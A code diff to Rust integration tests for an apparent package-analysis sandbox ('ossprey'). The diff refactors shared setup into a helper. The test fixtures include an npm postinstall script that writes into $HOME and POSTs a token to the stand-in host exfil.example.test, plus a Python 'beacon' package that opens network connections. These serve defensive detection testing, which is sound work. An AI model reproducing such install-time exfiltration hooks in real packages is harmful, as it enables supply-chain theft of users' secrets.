@@ -22,6 +22,34 @@ use serde_json::json;
 
 /// An npm tarball whose postinstall, run by npm, writes into $HOME, resolves
 /// `exfil.example.test` and POSTs `token=abc` to it.
+/// `ossprey analyze ARCHIVE --phases install,import` with its cache under `dir`:
+/// the run succeeded, the install phase ran sealed (only `lo`) and completed.
+fn install_and_import(runtime: &Path, dir: &Path, archive: &Path) -> serde_json::Value {
+    let out = analyze(
+        runtime,
+        &dir.join("cache"),
+        &[
+            archive.to_str().unwrap(),
+            "--format",
+            "json",
+            "--phases",
+            "install,import",
+            "--phase-timeout",
+            "60",
+        ],
+    );
+    let r = report(&out);
+    assert_eq!(out.status.code(), Some(0), "{r:#}");
+    let install = &r["dynamic"]["install"];
+    assert_sealed(install);
+    eprintln!(
+        "install: {} ms, import: {} ms",
+        install["duration_ms"], r["dynamic"]["import"]["duration_ms"]
+    );
+    assert_eq!(install["status"], "completed", "{install:#}");
+    r
+}
+
 fn exfil_npm(dir: &Path) -> PathBuf {
     let script = "const fs=require('fs'),os=require('os'),http=require('http');\
         fs.writeFileSync(os.homedir()+'/.exfil-marker','seen');\
@@ -57,28 +85,8 @@ fn npm_postinstall_dns_http_post_and_home_write_are_recorded() {
     };
     let dir = tempfile::tempdir().unwrap();
     let tgz = exfil_npm(dir.path());
-    let out = analyze(
-        &runtime,
-        &dir.path().join("cache"),
-        &[
-            tgz.to_str().unwrap(),
-            "--format",
-            "json",
-            "--phases",
-            "install,import",
-            "--phase-timeout",
-            "60",
-        ],
-    );
-    let r = report(&out);
-    assert_eq!(out.status.code(), Some(0), "{r:#}");
+    let r = install_and_import(&runtime, dir.path(), &tgz);
     let install = &r["dynamic"]["install"];
-    assert_sealed(install);
-    eprintln!(
-        "install: {} ms, import: {} ms",
-        install["duration_ms"], r["dynamic"]["import"]["duration_ms"]
-    );
-    assert_eq!(install["status"], "completed", "{install:#}");
     assert_eq!(r["dynamic"]["import"]["status"], "completed");
 
     let dns = install["network"]["dns"].as_array().unwrap();
@@ -149,28 +157,8 @@ setup(name='imitation-beacon', version='0.1.0', py_modules=['imitation_beacon'])
     ]);
     let sdist = dir.path().join("imitation_beacon-0.1.0.tar.gz");
     std::fs::write(&sdist, bytes).unwrap();
-    let out = analyze(
-        &runtime,
-        &dir.path().join("cache"),
-        &[
-            sdist.to_str().unwrap(),
-            "--format",
-            "json",
-            "--phases",
-            "install,import",
-            "--phase-timeout",
-            "60",
-        ],
-    );
-    let r = report(&out);
-    assert_eq!(out.status.code(), Some(0), "{r:#}");
+    let r = install_and_import(&runtime, dir.path(), &sdist);
     let install = &r["dynamic"]["install"];
-    assert_sealed(install);
-    eprintln!(
-        "install: {} ms, import: {} ms",
-        install["duration_ms"], r["dynamic"]["import"]["duration_ms"]
-    );
-    assert_eq!(install["status"], "completed", "{install:#}");
     let conns = install["network"]["connections"].as_array().unwrap();
     let conn = conns
         .iter()
